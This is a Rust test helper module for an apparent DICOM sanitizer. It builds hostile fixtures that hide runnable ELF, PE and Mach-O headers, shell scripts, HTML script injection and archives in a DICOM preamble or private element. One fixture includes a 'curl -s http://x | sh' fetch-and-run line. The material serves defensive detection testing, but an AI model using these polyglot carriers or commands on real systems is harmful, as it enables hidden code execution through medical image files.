//! Real test files, and hostile fixtures built from them.

use std::path::{Path, PathBuf};

pub fn data_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data")
}

/// A committed real file by name.
pub fn real(name: &str) -> Vec<u8> {
    let path = data_dir().join("pydicom").join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Every committed real file, sorted by name.
pub fn real_files() -> Vec<(String, Vec<u8>)> {
    let mut files: Vec<(String, Vec<u8>)> = std::fs::read_dir(data_dir().join("pydicom"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.file_name().unwrap() != "LICENSE")
        .map(|path| {
            (
                path.file_name().unwrap().to_string_lossy().into_owned(),
                std::fs::read(&path).unwrap(),
            )
        })
        .collect();
    files.sort();
    files
}

/// The offset of the (7FE0,0010) Pixel Data header in an explicit VR little endian file.
pub fn pixel_data_offset(data: &[u8]) -> usize {
    data.windows(6)
        .rposition(|w| w == b"\xe0\x7f\x10\x00OW" || w == b"\xe0\x7f\x10\x00OB")
        .expect("pixel data")
}

/// An explicit VR little endian element.
pub fn element(group: u16, element: u16, vr: &[u8; 2], value: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&group.to_le_bytes());
    out.extend_from_slice(&element.to_le_bytes());
    out.extend_from_slice(vr);
    if matches!(vr, b"OB" | b"OW" | b"UN" | b"SQ" | b"UT") {
        out.extend_from_slice(&[0, 0]);
        out.extend_from_slice(&(value.len() as u32).to_le_bytes());
    } else {
        out.extend_from_slice(&(value.len() as u16).to_le_bytes());
    }
    out.extend_from_slice(value);
    out
}

/// CT_small.dcm (explicit VR little endian, real) with a private creator (0099,0010) and a
/// private OB element (0099,1000) holding `payload` inserted in tag order before Pixel Data.
/// Returns the file and the offset of the payload's first byte.
pub fn ct_with_private_payload(payload: &[u8]) -> (Vec<u8>, usize) {
    let mut data = real("CT_small.dcm");
    let at = pixel_data_offset(&data);
    let mut inserted = element(0x0099, 0x0010, b"LO", b"DICOM-SANITIZE TEST ");
    let mut payload = payload.to_vec();
    if payload.len() % 2 == 1 {
        payload.push(0);
    }
    let value_offset = at + inserted.len() + 12;
    inserted.extend(element(0x0099, 0x1000, b"OB", &payload));
    data.splice(at..at, inserted);
    (data, value_offset)
}

/// `data` with its preamble replaced by `preamble` (zero-padded to 128 bytes).
pub fn with_preamble(mut data: Vec<u8>, preamble: &[u8]) -> Vec<u8> {
    data[..128].fill(0);
    data[..preamble.len()].copy_from_slice(preamble);
    data
}

/// x86-64 Linux machine code: `exit(42)`.
pub const EXIT_42: &[u8] = &[
    0xBF, 0x2A, 0x00, 0x00, 0x00, // mov edi, 42
    0xB8, 0x3C, 0x00, 0x00, 0x00, // mov eax, 60 (exit)
    0x0F, 0x05, // syscall
];

/// A working ELF polyglot: an x86-64 ELF header and one PT_LOAD program header in the
/// preamble map the whole file; the entry point is `exit(42)` inside a private OB element.
pub fn elf_polyglot() -> (Vec<u8>, usize) {
    let (data, code) = ct_with_private_payload(EXIT_42);
    let p = elf64_headers(code as u64, data.len() as u64);
    assert_eq!(p.len(), 120);
    (with_preamble(data, &p), code)
}

/// The 120 bytes of an x86-64 `ET_EXEC` ELF header and one `PT_LOAD` program header that maps
/// the first `len` bytes of the file (read, execute) at 0x400000, entering at file offset
/// `entry`: what the Linux loader needs to run the image.
pub fn elf64_headers(entry: u64, len: u64) -> Vec<u8> {
    let base = 0x40_0000u64;
    let mut p = Vec::new();
    p.extend_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    p.extend_from_slice(&2u16.to_le_bytes()); // ET_EXEC
    p.extend_from_slice(&0x3Eu16.to_le_bytes()); // x86-64
    p.extend_from_slice(&1u32.to_le_bytes());
    p.extend_from_slice(&(base + entry).to_le_bytes()); // e_entry
    p.extend_from_slice(&64u64.to_le_bytes()); // e_phoff
    p.extend_from_slice(&0u64.to_le_bytes()); // e_shoff
    p.extend_from_slice(&0u32.to_le_bytes()); // e_flags
    for v in [64u16, 56, 1, 64, 0, 0] {
        // e_ehsize, e_phentsize, e_phnum, e_shentsize, e_shnum, e_shstrndx
        p.extend_from_slice(&v.to_le_bytes());
    }
    p.extend_from_slice(&1u32.to_le_bytes()); // PT_LOAD
    p.extend_from_slice(&5u32.to_le_bytes()); // R+X
    for v in [0, base, base, len, len, 0x1000] {
        // p_offset, p_vaddr, p_paddr, p_filesz, p_memsz, p_align
        p.extend_from_slice(&v.to_le_bytes());
    }
    p
}

/// A PE polyglot in the shape of the public proof of concept: the DOS header fills the
/// preamble and `e_lfanew` points at `PE\0\0` inside a private OB element.
pub fn pe_polyglot() -> (Vec<u8>, usize) {
    let mut pe_header = b"PE\0\0".to_vec();
    pe_header.extend_from_slice(&0x8664u16.to_le_bytes()); // machine
    pe_header.extend_from_slice(&[0; 18]);
    let (data, header) = ct_with_private_payload(&pe_header);
    let mut p = vec![0u8; 128];
    p[..2].copy_from_slice(b"MZ");
    p[2..4].copy_from_slice(&0x90u16.to_le_bytes());
    p[0x3C..0x40].copy_from_slice(&(header as u32).to_le_bytes());
    p[0x40..0x40 + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
    (with_preamble(data, &p), header)
}

/// A 64-bit Mach-O header whose segment maps the file and whose LC_MAIN entry point lies in a
/// private OB element.
pub fn macho_polyglot() -> (Vec<u8>, usize) {
    let (data, code) = ct_with_private_payload(EXIT_42);
    let len = data.len() as u64;
    let mut p = Vec::new();
    for v in [0xFEED_FACFu32, 0x0100_0007, 3, 2, 2, 96, 0, 0] {
        p.extend_from_slice(&v.to_le_bytes());
    }
    p.extend_from_slice(&0x19u32.to_le_bytes()); // LC_SEGMENT_64
    p.extend_from_slice(&72u32.to_le_bytes());
    p.extend_from_slice(b"__TEXT\0\0\0\0\0\0\0\0\0\0");
    for v in [0x1_0000_0000u64, len, 0, len] {
        // vmaddr, vmsize, fileoff, filesize
        p.extend_from_slice(&v.to_le_bytes());
    }
    for v in [5u32, 5, 0, 0] {
        p.extend_from_slice(&v.to_le_bytes());
    }
    p.extend_from_slice(&0x8000_0028u32.to_le_bytes()); // LC_MAIN
    p.extend_from_slice(&24u32.to_le_bytes());
    p.extend_from_slice(&(code as u64).to_le_bytes());
    p.extend_from_slice(&0u64.to_le_bytes());
    assert_eq!(p.len(), 128);
    (with_preamble(data, &p), code)
}

/// CT_small.dcm is a real dual-personality file whose TIFF IFD sits in (FFFC,FFFC), but its
/// header and strip offsets are stale (the image was downsized). Repairing them makes the
/// TIFF functional: header in the preamble, IFD in the padding, strip = Pixel Data.
pub fn functional_tiff() -> Vec<u8> {
    let mut data = real("CT_small.dcm");
    let pixel_value = pixel_data_offset(&data) + 12;
    let padding = data
        .windows(4)
        .rposition(|w| w == b"\xfc\xff\xfc\xff")
        .unwrap();
    let ifd = padding + 12;
    let set = |data: &mut Vec<u8>, entry: usize, value: u32| {
        let at = ifd + 2 + 12 * entry + 8;
        data[at..at + 4].copy_from_slice(&value.to_le_bytes());
    };
    set(&mut data, 1, 128); // ImageWidth
    set(&mut data, 2, 128); // ImageLength
    set(&mut data, 6, pixel_value as u32); // StripOffsets
    set(&mut data, 8, 128); // RowsPerStrip
    set(&mut data, 9, 128 * 128 * 2); // StripByteCounts
    data[4..8].copy_from_slice(&(ifd as u32).to_le_bytes());
    data
}

/// CT_small.dcm with only its header's IFD offset repaired: the IFD is found, but its strip
/// lies outside the file.
pub fn tiff_with_stale_strips() -> Vec<u8> {
    let mut data = real("CT_small.dcm");
    let padding = data
        .windows(4)
        .rposition(|w| w == b"\xfc\xff\xfc\xff")
        .unwrap();
    data[4..8].copy_from_slice(&((padding + 12) as u32).to_le_bytes());
    data
}

/// `text` in UTF-16, little endian, without a byte order mark.
pub fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A named hostile or edge-case input and what classification must say about it.
pub struct Fixture {
    pub name: &'static str,
    pub data: Vec<u8>,
    pub kind: &'static str,
    pub threat: bool,
}

/// Every preamble fixture.
pub fn preamble_fixtures() -> Vec<Fixture> {
    let ct = real("CT_small.dcm");
    let fixture = |name, data, kind, threat| Fixture {
        name,
        data,
        kind,
        threat,
    };
    vec![
        fixture("pe", pe_polyglot().0, "pe", true),
        fixture("elf", elf_polyglot().0, "elf", true),
        fixture("macho", macho_polyglot().0, "macho", true),
        fixture(
            "macho-fat",
            with_preamble(ct.clone(), &[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 1]),
            "macho",
            true,
        ),
        fixture(
            "script-shebang",
            with_preamble(ct.clone(), b"#!/bin/sh\necho owned\nexit 0\n"),
            "script",
            true,
        ),
        fixture(
            "script-no-shebang",
            with_preamble(ct.clone(), b"echo owned; exit 0\n"),
            "script",
            true,
        ),
        fixture(
            "script-after-nul-padding",
            with_preamble(ct.clone(), b"ACME\0\0\0\0\ncurl -s http://x | sh\n"),
            "script",
            true,
        ),
        fixture(
            "script-after-control-bytes",
            with_preamble(ct.clone(), b"\x01\x02\x03\necho owned; exit 0\n"),
            "script",
            true,
        ),
        fixture(
            "elf-ei-version-0",
            {
                let mut elf = elf_polyglot().0;
                elf[6] = 0;
                elf
            },
            "elf",
            true,
        ),
        fixture(
            "html-utf8-bom",
            with_preamble(ct.clone(), b"\xEF\xBB\xBF<html><script>alert(1)</script>"),
            "html",
            true,
        ),
        fixture(
            "html-utf16le",
            with_preamble(ct.clone(), &utf16le("<html><script>alert(1)</script>")),
            "html",
            true,
        ),
        fixture(
            "lnk",
            with_preamble(
                ct.clone(),
                &[
                    0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46,
                ],
            ),
            "archive",
            true,
        ),
        fixture(
            "text-lines",
            with_preamble(ct.clone(), b"ACME\0\0\0\0\nVersion 4.2\nMITRA LINKED\n"),
            "text",
            false,
        ),
        fixture(
            "pdf",
            with_preamble(ct.clone(), b"%PDF-1.7\n1 0 obj\n"),
            "pdf",
            true,
        ),
        fixture(
            "pdf-after-tiff-magic",
            with_preamble(ct.clone(), b"II*\0\0\0\0\0%PDF-1.4"),
            "pdf",
            true,
        ),
        fixture(
            "html",
            with_preamble(ct.clone(), b"<html><script>alert(1)</script>"),
            "html",
            true,
        ),
        fixture(
            "html-after-tiff-magic",
            with_preamble(ct.clone(), b"II*\0\x08\0\0\0<svg onload=alert(1)>"),
            "html",
            true,
        ),
        fixture(
            "zip",
            with_preamble(ct.clone(), b"PK\x03\x04\x14\0\0\0\x08\0"),
            "zip",
            true,
        ),
        fixture(
            "7z",
            with_preamble(ct.clone(), &[0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4]),
            "archive",
            true,
        ),
        fixture(
            "gzip",
            with_preamble(ct.clone(), &[0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0]),
            "archive",
            true,
        ),
        fixture(
            "ole",
            with_preamble(
                ct.clone(),
                &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1],
            ),
            "archive",
            true,
        ),
        fixture(
            "tiff-junk",
            with_preamble(ct.clone(), b"II*\0\x08\0\0\0\0\0\x01\x02\x03"),
            "unknown",
            true,
        ),
        fixture(
            "tiff-junk-at-end",
            with_preamble(ct.clone(), &{
                let mut p = [0u8; 128];
                p[..8].copy_from_slice(b"MM\0*\0\0\x02\0");
                p[127] = 0x90;
                p
            }),
            "unknown",
            true,
        ),
        fixture(
            "text",
            with_preamble(ct.clone(), b"ACME Imaging Workstation 4.2\0\0"),
            "text",
            false,
        ),
        fixture(
            "unknown",
            with_preamble(ct.clone(), &[0, 0, 0, 0, 0x13, 0x37]),
            "unknown",
            false,
        ),
        fixture("zero", with_preamble(ct.clone(), &[]), "zero", false),
        fixture("tiff-functional", functional_tiff(), "tiff", false),
        fixture(
            "tiff-stale-strips",
            tiff_with_stale_strips(),
            "tiff-dangling",
            false,
        ),
        fixture("tiff-dangling", ct.clone(), "tiff-dangling", false),
        fixture(
            "tiff-ifd-zero",
            with_preamble(ct, b"II*\0"),
            "tiff-dangling",
            false,
        ),
    ]
}

/// `data` with `bytes` inserted at `at`.
pub fn insert(mut data: Vec<u8>, at: usize, bytes: &[u8]) -> Vec<u8> {
    data.splice(at..at, bytes.iter().copied());
    data
}

/// The data set offset of a Part 10 file whose meta group has a correct group length.
pub fn data_set_offset(data: &[u8]) -> usize {
    144 + u32::from_le_bytes(data[140..144].try_into().unwrap()) as usize
}

/// CT_small.dcm with raw element bytes inserted before Pixel Data.
pub fn ct_with(elements: &[u8]) -> Vec<u8> {
    let data = real("CT_small.dcm");
    let at = pixel_data_offset(&data);
    insert(data, at, elements)
}

/// CT_small.dcm with a private creator and a private OB element holding `value` (not padded).
pub fn ct_with_private_value(value: &[u8]) -> Vec<u8> {
    let mut elements = element(0x0099, 0x0010, b"LO", b"DICOM-SANITIZE TEST ");
    elements.extend(element(0x0099, 0x1000, b"OB", value));
    ct_with(&elements)
}

/// MR_small.dcm with its File Meta group replaced by `elements` (group length recomputed
/// unless `group_length` is given).
pub fn mr_with_meta(elements: &[u8], group_length: Option<u32>) -> Vec<u8> {
    let data = real("MR_small.dcm");
    let data_set = data_set_offset(&data);
    let length = group_length.unwrap_or(elements.len() as u32);
    let mut out = data[..132].to_vec();
    out.extend(element(0x0002, 0x0000, b"UL", &length.to_le_bytes()));
    out.extend_from_slice(elements);
    out.extend_from_slice(&data[data_set..]);
    out
}

/// The elements of MR_small.dcm's meta group after (0002,0000), as raw bytes.
pub fn mr_meta_body() -> Vec<u8> {
    let data = real("MR_small.dcm");
    data[144..data_set_offset(&data)].to_vec()
}

/// The offset of the first occurrence of `needle` in `data`.
pub fn find(data: &[u8], needle: &[u8]) -> usize {
    data.windows(needle.len())
        .position(|w| w == needle)
        .expect("needle")
}

/// `depth` nested undefined-length sequences, each with one undefined-length item, closed
/// properly, as an explicit VR little endian data set fragment.
pub fn nested_sequences(depth: usize) -> Vec<u8> {
    let open: &[u8] = b"\x99\x00\x01\x10SQ\0\0\xff\xff\xff\xff\xfe\xff\x00\xe0\xff\xff\xff\xff";
    let close: &[u8] = b"\xfe\xff\x0d\xe0\0\0\0\0\xfe\xff\xdd\xe0\0\0\0\0";
    let mut out = element(0x0099, 0x0010, b"LO", b"NESTING ");
    out.reserve(depth * (open.len() + close.len()));
    for _ in 0..depth {
        out.extend_from_slice(open);
    }
    for _ in 0..depth {
        out.extend_from_slice(close);
    }
    out
}

/// A Part 10 file whose data set, `data_set` (explicit VR little endian), is deflated: the
/// file and the file offset where the inflated data set starts.
pub fn deflated_part10(data_set: &[u8]) -> (Vec<u8>, usize) {
    use std::io::Write;
    let mut deflater = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    deflater.write_all(data_set).unwrap();
    let stream = deflater.finish().unwrap();
    let mut meta = Vec::new();
    meta.extend(element(0x0002, 0x0001, b"OB", &[0, 1]));
    let sop_class = b"1.2.840.10008.5.1.4.1.1.7\0";
    meta.extend(element(0x0002, 0x0002, b"UI", sop_class));
    meta.extend(element(0x0002, 0x0003, b"UI", b"1.2.3.4\0"));
    meta.extend(element(0x0002, 0x0010, b"UI", b"1.2.840.10008.1.2.1.99"));
    meta.extend(element(0x0002, 0x0012, b"UI", b"1.2.3.4\0"));
    let mut data = vec![0u8; 128];
    data.extend_from_slice(b"DICM");
    let group_length = (meta.len() as u32).to_le_bytes();
    data.extend(element(0x0002, 0x0000, b"UL", &group_length));
    data.extend(meta);
    let start = data.len();
    data.extend(stream);
    (data, start)
}

/// `bytes` compressed as one gzip member (no name, mtime 0), as `gzip -n` writes it.
pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::GzBuilder::new()
        .mtime(0)
        .write(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    let mut out = encoder.finish().unwrap();
    if out.len() % 2 == 1 {
        out.push(0);
    }
    out
}

// Payload carriers as an attacker builds them, and DICOM files in each encoding to hide them
// in (the carrier search's tests).

/// A standalone x86-64 Linux executable that exits with status 42: the ELF header, one
/// `PT_LOAD` program header mapping the whole image, then the code. 132 bytes.
pub fn elf_exit_42() -> Vec<u8> {
    let mut p = elf64_headers(120, 120 + EXIT_42.len() as u64);
    p.extend_from_slice(EXIT_42);
    p
}

/// A PE32+ x86-64 image header as the Windows loader reads it: the DOS header with
/// `e_lfanew` 0x40, `PE\0\0`, the COFF header and an optional header with its magic.
pub fn pe_image() -> Vec<u8> {
    let mut p = vec![0u8; 0x40];
    p[..2].copy_from_slice(b"MZ");
    p[0x3C..0x40].copy_from_slice(&0x40u32.to_le_bytes());
    p.extend_from_slice(b"PE\0\0");
    p.extend_from_slice(&0x8664u16.to_le_bytes()); // Machine
    p.extend_from_slice(&0u16.to_le_bytes()); // NumberOfSections
    p.extend_from_slice(&[0; 12]); // TimeDateStamp, symbol table
    p.extend_from_slice(&0xF0u16.to_le_bytes()); // SizeOfOptionalHeader
    p.extend_from_slice(&0x0022u16.to_le_bytes()); // Characteristics
    p.extend_from_slice(&0x020Bu16.to_le_bytes()); // PE32+
    p.resize(0x40 + 24 + 0xF0, 0);
    p
}

/// A stored (uncompressed) ZIP archive of one member, `__main__.py` printing `owned`: what
/// `python3 f.dcm` runs when readers find it.
pub fn zip_archive() -> Vec<u8> {
    let name = b"__main__.py";
    let body = b"print('owned')\n";
    let mut crc = flate2::Crc::new();
    crc.update(body);
    let crc = crc.sum();
    let mut local = b"PK\x03\x04".to_vec();
    local.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // version, flags, method, time, date
    local.extend_from_slice(&crc.to_le_bytes());
    local.extend_from_slice(&(body.len() as u32).to_le_bytes());
    local.extend_from_slice(&(body.len() as u32).to_le_bytes());
    local.extend_from_slice(&(name.len() as u16).to_le_bytes());
    local.extend_from_slice(&0u16.to_le_bytes());
    local.extend_from_slice(name);
    local.extend_from_slice(body);
    let mut central = b"PK\x01\x02".to_vec();
    central.extend_from_slice(&[20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    central.extend_from_slice(&crc.to_le_bytes());
    central.extend_from_slice(&(body.len() as u32).to_le_bytes());
    central.extend_from_slice(&(body.len() as u32).to_le_bytes());
    central.extend_from_slice(&(name.len() as u16).to_le_bytes());
    central.extend_from_slice(&[0; 12]); // extra, comment, disk, attributes
    central.extend_from_slice(&0u32.to_le_bytes()); // local header offset
    central.extend_from_slice(name);
    let mut end = b"PK\x05\x06".to_vec();
    end.extend_from_slice(&[0, 0, 0, 0, 1, 0, 1, 0]);
    end.extend_from_slice(&(central.len() as u32).to_le_bytes());
    end.extend_from_slice(&(local.len() as u32).to_le_bytes());
    end.extend_from_slice(&0u16.to_le_bytes());
    [local, central, end].concat()
}

/// A POSIX tar archive of one member, `run.sh`, and its two closing zero blocks.
pub fn tar_archive() -> Vec<u8> {
    let body = b"#!/bin/sh\nid\n";
    let mut h = vec![0u8; 512];
    let mut put = |at: usize, bytes: &[u8]| h[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, b"run.sh");
    put(100, b"0000755\0");
    put(108, b"0000000\0");
    put(116, b"0000000\0");
    put(124, format!("{:011o}\0", body.len()).as_bytes());
    put(136, b"00000000000\0");
    put(156, b"0");
    put(257, b"ustar\x0000");
    h[148..156].fill(b' ');
    let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
    h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut out = h;
    let mut data = body.to_vec();
    data.resize(512, 0);
    out.extend(data);
    out.extend([0u8; 1024]);
    out
}

/// How a data set is encoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    ExplicitLe,
    ImplicitLe,
    ExplicitBe,
}

impl Encoding {
    pub const ALL: [Encoding; 3] = [
        Encoding::ExplicitLe,
        Encoding::ImplicitLe,
        Encoding::ExplicitBe,
    ];

    pub fn transfer_syntax(self) -> &'static str {
        match self {
            Encoding::ExplicitLe => "1.2.840.10008.1.2.1",
            Encoding::ImplicitLe => "1.2.840.10008.1.2",
            Encoding::ExplicitBe => "1.2.840.10008.1.2.2",
        }
    }

    fn u16(self, v: u16) -> [u8; 2] {
        if self == Encoding::ExplicitBe {
            v.to_be_bytes()
        } else {
            v.to_le_bytes()
        }
    }

    fn u32(self, v: u32) -> [u8; 4] {
        if self == Encoding::ExplicitBe {
            v.to_be_bytes()
        } else {
            v.to_le_bytes()
        }
    }

    /// An element header: tag, VR (explicit) and length (`u32::MAX`: undefined).
    pub fn header(self, group: u16, element: u16, vr: &[u8; 2], len: u32) -> Vec<u8> {
        let mut out = [self.u16(group), self.u16(element)].concat();
        if self == Encoding::ImplicitLe || group == 0xFFFE {
            out.extend(self.u32(len));
        } else if matches!(vr, b"OB" | b"OW" | b"UN" | b"SQ" | b"UT" | b"OF" | b"OD") {
            out.extend_from_slice(vr);
            out.extend([0, 0]);
            out.extend(self.u32(len));
        } else {
            out.extend_from_slice(vr);
            out.extend(self.u16(len as u16));
        }
        out
    }

    /// An element with its value.
    pub fn element(self, group: u16, element: u16, vr: &[u8; 2], value: &[u8]) -> Vec<u8> {
        let mut out = self.header(group, element, vr, value.len() as u32);
        out.extend_from_slice(value);
        out
    }

    /// `inner` wrapped in `depth` sequences (0099,1001) of one undefined-length item each.
    pub fn nested(self, depth: usize, inner: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        for _ in 0..depth {
            out.extend(self.header(0x0099, 0x1001, b"SQ", u32::MAX));
            out.extend(self.header(0xFFFE, 0xE000, b"  ", u32::MAX));
        }
        out.extend_from_slice(inner);
        for _ in 0..depth {
            out.extend(self.header(0xFFFE, 0xE00D, b"  ", 0));
            out.extend(self.header(0xFFFE, 0xE0DD, b"  ", 0));
        }
        out
    }
}

/// A Part 10 file in `encoding` whose data set is a few ordinary elements, a private creator
/// (0099,0010), then `private` (elements of group 0099 after the creator, in tag order), then
/// a small Pixel Data. Returns the file and the offset where `private` starts.
pub fn part10(encoding: Encoding, private: &[u8]) -> (Vec<u8>, usize) {
    let ts = {
        let mut uid = encoding.transfer_syntax().as_bytes().to_vec();
        if uid.len() % 2 == 1 {
            uid.push(0);
        }
        uid
    };
    let mut meta = Vec::new();
    meta.extend(element(0x0002, 0x0001, b"OB", &[0, 1]));
    meta.extend(element(
        0x0002,
        0x0002,
        b"UI",
        b"1.2.840.10008.5.1.4.1.1.7\0",
    ));
    meta.extend(element(0x0002, 0x0003, b"UI", b"1.2.3.4.5.6.7.8.9\0"));
    meta.extend(element(0x0002, 0x0010, b"UI", &ts));
    meta.extend(element(0x0002, 0x0012, b"UI", b"1.2.3.4\0"));
    let mut out = vec![0u8; 128];
    out.extend_from_slice(b"DICM");
    out.extend(element(
        0x0002,
        0x0000,
        b"UL",
        &(meta.len() as u32).to_le_bytes(),
    ));
    out.extend(meta);
    let e = encoding;
    out.extend(e.element(0x0008, 0x0016, b"UI", b"1.2.840.10008.5.1.4.1.1.7\0"));
    out.extend(e.element(0x0008, 0x0018, b"UI", b"1.2.3.4.5.6.7.8.9\0"));
    out.extend(e.element(0x0010, 0x0010, b"PN", b"DOE^JOHN"));
    out.extend(e.element(0x0028, 0x0010, b"US", &e.u16(4)));
    out.extend(e.element(0x0028, 0x0011, b"US", &e.u16(4)));
    out.extend(e.element(0x0099, 0x0010, b"LO", b"DICOM-SANITIZE TEST "));
    let at = out.len();
    out.extend_from_slice(private);
    out.extend(e.element(0x7FE0, 0x0010, b"OW", &[0u8; 32]));
    (out, at)
}
